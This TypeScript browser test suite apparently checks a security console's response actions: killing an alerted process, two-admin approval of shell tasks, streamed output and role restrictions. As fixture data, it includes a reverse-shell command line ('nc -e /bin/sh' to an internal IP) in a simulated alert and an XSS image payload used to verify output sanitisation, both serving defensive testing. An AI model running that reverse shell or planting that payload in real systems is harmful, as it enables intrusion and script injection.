// Response actions in a real browser, against the real fan-out (its own process), ingest for
// alerts, PostgreSQL, Redis and Chromium: an operator kills the process of a PROCESS alert from
// its detail (prefilled with pid and start time), watches a shell task's output arrive live,
// and sees what their role and the host's policy refuse greyed out with the reason. The agent's
// side of tasks is played through storage as ingest's task manager does (task-agent-side.ts).
import { Severity, TripwireType } from '@tripwire/proto';
import type { TaskPolicy } from '@tripwire/storage';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auth, JWT_SECRET, until, useEnvironment } from '../fanout-harness.js';
import { ALL_BUT_SHELL, connectAgent, text } from '../task-agent-side.js';
import {
  ENROLLMENT_TOKEN,
  FanoutProcess,
  launchChromium,
  screenshot,
  signIn,
  startIngest,
  TestAgent,
} from './dashboard-harness.js';

const env = useEnvironment();
let fanout: FanoutProcess;
let ingest: Awaited<ReturnType<typeof startIngest>>;
let browser: Browser;
let agent: TestAgent;
let taskSide: Awaited<ReturnType<typeof connectAgent>>;
const opened: BrowserContext[] = [];

/** This host's agent: every action but quarantine and restore, shell unrestricted. */
const POLICY: TaskPolicy = {
  ...ALL_BUT_SHELL,
  enabledActions: ['process_list', 'file_hash', 'file_fetch', 'kill_process', 'shell_execute'],
  shellRestricted: false,
};

beforeAll(async () => {
  ingest = await startIngest(env);
  // Shell tasks wait for a second admin, so the shell test walks the approval too.
  fanout = await FanoutProcess.create(env, JWT_SECRET, { TASKS_SHELL_APPROVAL: 'true' });
  await fanout.start();
  browser = await launchChromium();
  agent = new TestAgent(ingest.client, 'web-07');
  await agent.connect(ENROLLMENT_TOKEN);
  taskSide = await connectAgent(env, agent.hostId, POLICY);
}, 60_000);

afterAll(async () => {
  for (const c of opened) await c.close().catch(() => {});
  agent?.close();
  await browser?.close();
  await fanout?.stop();
  await ingest?.stop();
});

async function consolePage(name: string, role: 'responder' | 'admin', path: string) {
  const context = await browser.newContext({ viewport: { width: 1500, height: 950 } });
  opened.push(context);
  const page = await context.newPage();
  await signIn(page, fanout.url, await auth.issue(name, role), path);
  await expect.poll(() => page.getByTestId('connection').getAttribute('data-state')).toBe('live');
  return page;
}

const detailState = (page: Page) => page.getByTestId('task-state').textContent();
const taskIdInUrl = (page: Page) => new URL(page.url()).searchParams.get('task');

describe('response actions in the console', () => {
  it('kills the process of a PROCESS alert from its detail, prefilled, and shows the outcome live', async () => {
    const page = await consolePage('ada', 'admin', '/');
    const event = agent.event({
      type: TripwireType.PROCESS,
      severity: Severity.CRITICAL,
      rule: 'reverse-shell',
      detail: { pid: 4242, start_ticks: 987654, cmdline: 'nc -e /bin/sh 10.0.0.9 4444' },
    });
    await agent.send([event]);
    const row = page.locator(`[data-alert-id="${event.alertId}"]`);
    await row.dblclick();
    const detail = page.getByTestId('alert-detail');
    await detail.getByRole('button', { name: 'Respond' }).click();
    const form = page.getByRole('form', { name: 'Respond on web-07' });
    await expect
      .poll(() => form.getByRole('radio', { name: 'kill_process' }).isChecked())
      .toBe(true);
    expect(await form.locator('input[name="pid"]').inputValue()).toBe('4242');
    expect(await form.locator('input[name="start_ticks"]').inputValue()).toBe('987654');
    // This host's policy does not enable quarantine: offered, but disabled with the reason.
    await expect
      .poll(() => form.getByTestId('refused-quarantine_file').textContent())
      .toContain('does not enable quarantine_file');
    expect(await form.getByRole('radio', { name: 'quarantine_file' }).isDisabled()).toBe(true);
    await screenshot(page, 'tasks-01-respond-prefilled');
    await form.getByRole('button', { name: 'Run kill_process' }).click();

    // The new task's panel, live: the agent takes it, starts it, and reports the outcome.
    await expect.poll(() => taskIdInUrl(page)).toMatch(/^[0-9a-f-]{36}$/);
    const id = taskIdInUrl(page)!;
    await expect.poll(() => detailState(page)).toBe('QUEUED');
    expect(JSON.parse((await page.getByTestId('task-parameters').textContent()) ?? '')).toEqual({
      pid: 4242,
      start_ticks: '987654',
      signal: 'SIGKILL',
    });
    await taskSide.claim();
    await expect.poll(() => detailState(page)).toBe('DISPATCHED');
    await taskSide.respond(id, { sequence: 1 });
    await taskSide.respond(id, {
      sequence: 2,
      status: 'SUCCEEDED',
      isFinal: true,
      result: { pid: 4242, signal: 'SIGKILL', exited: true },
    });
    await expect.poll(() => detailState(page)).toBe('SUCCEEDED');
    expect(await page.getByTestId('task-result').textContent()).toContain('"exited": true');
    // Linked to the alert it answers, and listed.
    expect(await page.getByTestId('task-detail').textContent()).toContain(event.alertId);
    await expect
      .poll(() => page.locator(`tr[data-task-id="${id}"]`).getAttribute('data-state'))
      .toBe('SUCCEEDED');
    await screenshot(page, 'tasks-02-kill-succeeded');
  });

  it('holds a shell task for a second admin, streams its output as text while it runs, and cancels it', async () => {
    const page = await consolePage('ada', 'admin', `/tasks?host=${agent.hostId}`);
    await page.getByRole('button', { name: 'Respond on web-07' }).click();
    const form = page.getByRole('form', { name: 'Respond on web-07' });
    await form.getByRole('radio', { name: 'shell_execute' }).check();
    await form.locator('input[name="cmd"]').fill('tail -f /var/log/nginx/access.log');
    await form.getByRole('button', { name: 'Run shell_execute' }).click();
    await expect.poll(() => taskIdInUrl(page)).toMatch(/^[0-9a-f-]{36}$/);
    const id = taskIdInUrl(page)!;

    // Its creator cannot approve it; a second admin, in another browser, can.
    await expect.poll(() => detailState(page)).toBe('AWAITING_APPROVAL');
    const approve = page.getByRole('button', { name: 'Approve' });
    expect(await approve.isDisabled()).toBe(true);
    expect(await page.getByTestId('task-detail').textContent()).toContain(
      'a second admin must approve',
    );
    const bob = await consolePage('bob', 'admin', `/tasks?task=${id}`);
    await bob.getByRole('button', { name: 'Approve' }).click();
    await expect.poll(() => detailState(page)).toBe('QUEUED');
    expect(await page.getByTestId('task-detail').textContent()).toContain('Approved');

    await taskSide.claim();
    await taskSide.respond(id, { sequence: 1 });
    await expect.poll(() => detailState(page)).toBe('RUNNING');

    const output = page.getByTestId('task-output');
    await taskSide.respond(id, { sequence: 2, output: [text('stdout', 'GET /index.html 200\n')] });
    // The first line shows while the task still runs: nothing more has been sent yet.
    await expect.poll(() => output.textContent()).toBe('GET /index.html 200\n');
    expect(await detailState(page)).toBe('RUNNING');
    // Markup and terminal escapes in output are text: no element made, colours stripped.
    await taskSide.respond(id, {
      sequence: 3,
      output: [
        text('stdout', '<img src=x onerror="window.__pwned=1"><b>bold</b>\n'),
        text('stderr', '\x1b[31mpermission denied\x1b[0m\n'),
      ],
    });
    await expect.poll(() => output.textContent()).toContain('permission denied');
    expect(await output.locator('img, b').count()).toBe(0);
    expect(await output.textContent()).toContain(
      '<img src=x onerror="window.__pwned=1"><b>bold</b>',
    );
    expect(await output.locator('[data-stream="stderr"]').textContent()).toBe(
      'permission denied\n',
    );
    expect(await page.evaluate('window.__pwned')).toBeUndefined();
    await screenshot(page, 'tasks-03-shell-output-live');

    // Cancel: the request is recorded at once; the agent's confirmation ends it CANCELLED.
    await page.getByRole('button', { name: 'Cancel task' }).click();
    await expect
      .poll(() => page.getByTestId('task-detail').textContent())
      .toContain('Cancel asked by');
    await taskSide.respond(id, { sequence: 4, status: 'CANCELLED', isFinal: true });
    await expect.poll(() => detailState(page)).toBe('CANCELLED');
    await until(
      async () => (await page.getByRole('button', { name: 'Cancel task' }).count()) === 0,
    );
  });

  it('greys out shell for a responder, with the reason, and leaves the rest runnable', async () => {
    const page = await consolePage('rita', 'responder', `/tasks?host=${agent.hostId}`);
    await page.getByRole('button', { name: 'Respond on web-07' }).click();
    const form = page.getByRole('form', { name: 'Respond on web-07' });
    await expect
      .poll(() => form.getByTestId('refused-shell_execute').textContent())
      .toContain('shell commands need the admin role');
    expect(await form.getByRole('radio', { name: 'shell_execute' }).isDisabled()).toBe(true);
    // Once the host's policy is read, what it enables is runnable.
    await expect
      .poll(() => form.getByRole('radio', { name: 'file_hash' }).isDisabled())
      .toBe(false);
    await screenshot(page, 'tasks-04-responder-greyed');
  });
});
